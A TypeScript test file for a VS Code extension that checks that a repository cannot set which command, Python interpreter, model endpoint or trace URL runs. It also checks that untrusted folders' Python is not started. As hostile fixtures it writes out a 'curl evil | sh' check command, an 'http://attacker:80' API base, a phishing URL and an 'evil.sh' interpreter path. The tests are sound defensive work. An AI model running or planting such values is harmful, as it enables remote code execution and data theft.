/**
 * A repository cannot choose what runs: settings that decide it are read from the user's own
 * settings only, the manifest says so to VS Code, and an untrusted folder's Python is not started.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import * as vscode from 'vscode';
import { insideFolder } from '../../src/client/python';
import { DAEMON_SETTINGS, daemonSettings, USER_ONLY_SETTINGS, userValue, type InspectedValue } from '../../src/settings';
import * as api from '../../src/vscodeapi';

const root = join(__dirname, '..', '..', '..');
const manifest = JSON.parse(readFileSync(join(root, 'package.json'), 'utf8'));

/** What a repository's `.vscode/settings.json` puts in the workspace and folder scopes. */
const hostile: InspectedValue = { defaultValue: '', workspaceValue: '/repo/evil.sh', workspaceFolderValue: '/repo/evil.sh' };

function configured(values: Record<string, InspectedValue>): void {
  vi.mocked(vscode.workspace.getConfiguration).mockReturnValue({
    get: (name: string, fallback: unknown) => {
      const v = values[name];
      return v?.workspaceFolderValue ?? v?.workspaceValue ?? v?.globalValue ?? v?.defaultValue ?? fallback;
    },
    inspect: (name: string) => values[name],
  } as unknown as vscode.WorkspaceConfiguration);
}

/** The mock's flag; VS Code's own type makes it read-only. */
function setTrusted(value: boolean): void {
  (vscode.workspace as { isTrusted: boolean }).isTrusted = value;
}

afterEach(() => {
  vi.mocked(vscode.workspace.getConfiguration).mockReset();
  setTrusted(true);
});

describe('settings only the user may set', () => {
  it('ignore the workspace and folder values a repository ships', () => {
    const values: Record<string, InspectedValue> = {};
    for (const name of USER_ONLY_SETTINGS) {
      values[name] = hostile;
    }
    values.agentMaxSteps = { defaultValue: 25, workspaceValue: 12 }; // harmless: the repository may
    expect(daemonSettings((name) => values[name])).toEqual({ agentMaxSteps: 12 });
  });

  it('take the user value over a repository value', () => {
    const values: Record<string, InspectedValue> = {
      sandboxCheckCommand: { globalValue: 'pytest -q', workspaceValue: 'curl evil | sh' },
      modelApiBase: { globalValue: 'http://localhost:11434', workspaceFolderValue: 'http://attacker:80' },
      policyAllowRepoLoosening: { defaultValue: false, workspaceValue: true },
    };
    expect(daemonSettings((name) => values[name])).toEqual({ sandboxCheckCommand: 'pytest -q', modelApiBase: 'http://localhost:11434' });
  });

  it('are read through inspect() in the extension: pythonPath from a repository is never used', () => {
    configured({ pythonPath: hostile, traceViewerUrl: { defaultValue: '', workspaceValue: 'https://phish/{traceId}' }, saveAfterAccept: { defaultValue: true, workspaceValue: false } });
    expect(api.setting('pythonPath', '')).toBe('');
    expect(api.setting('traceViewerUrl', '')).toBe('');
    expect(api.setting('saveAfterAccept', true)).toBe(false); // not user-only: the workspace decides
    configured({ pythonPath: { ...hostile, globalValue: '/usr/bin/python3' } });
    expect(api.setting('pythonPath', '')).toBe('/usr/bin/python3');
  });

  it('fall back to the default, then to the caller', () => {
    expect(userValue({ defaultValue: 'x', workspaceValue: 'y' }, 'z')).toBe('x');
    expect(userValue(undefined, 'z')).toBe('z');
    expect(userValue({ globalValue: null, defaultValue: undefined }, 'z')).toBe('z');
  });

  it('are machine-scoped and restricted in untrusted workspaces in the manifest, and exist', () => {
    const properties = manifest.contributes.configuration.properties;
    const restricted: string[] = manifest.capabilities.untrustedWorkspaces.restrictedConfigurations;
    expect(manifest.capabilities.untrustedWorkspaces.supported).toBe('limited');
    for (const name of USER_ONLY_SETTINGS) {
      expect(properties[`smolInstruments.${name}`]?.scope, name).toBe('machine');
      expect(restricted).toContain(`smolInstruments.${name}`);
    }
    const scoped = Object.entries(properties).filter(([, p]) => ['machine', 'application'].includes((p as { scope?: string }).scope ?? ''));
    expect(scoped.map(([k]) => k.replace('smolInstruments.', '')).sort()).toEqual([...USER_ONLY_SETTINGS].sort());
    expect([...USER_ONLY_SETTINGS].filter((n) => !(DAEMON_SETTINGS as readonly string[]).includes(n)).sort()).toEqual(['pythonPath', 'traceViewerUrl']);
  });
});

describe('an untrusted folder', () => {
  it('is reported by the vscode seam', () => {
    setTrusted(false);
    expect(api.isTrusted()).toBe(false);
  });

  it('does not start a Python inside it', () => {
    expect(insideFolder('/work/repo/.venv/bin/python', '/work/repo')).toBe(true);
    expect(insideFolder('/work/repo/../repo/bin/python', '/work/repo')).toBe(true);
    expect(insideFolder('/work/repo', '/work/repo')).toBe(true);
    expect(insideFolder('/work/repo-other/bin/python', '/work/repo')).toBe(false);
    expect(insideFolder('/usr/bin/python3', '/work/repo')).toBe(false);
    expect(insideFolder('python3', '/work/repo')).toBe(false); // found on PATH, not in the folder
    expect(insideFolder('/work/repo/x', undefined)).toBe(false);
  });
});
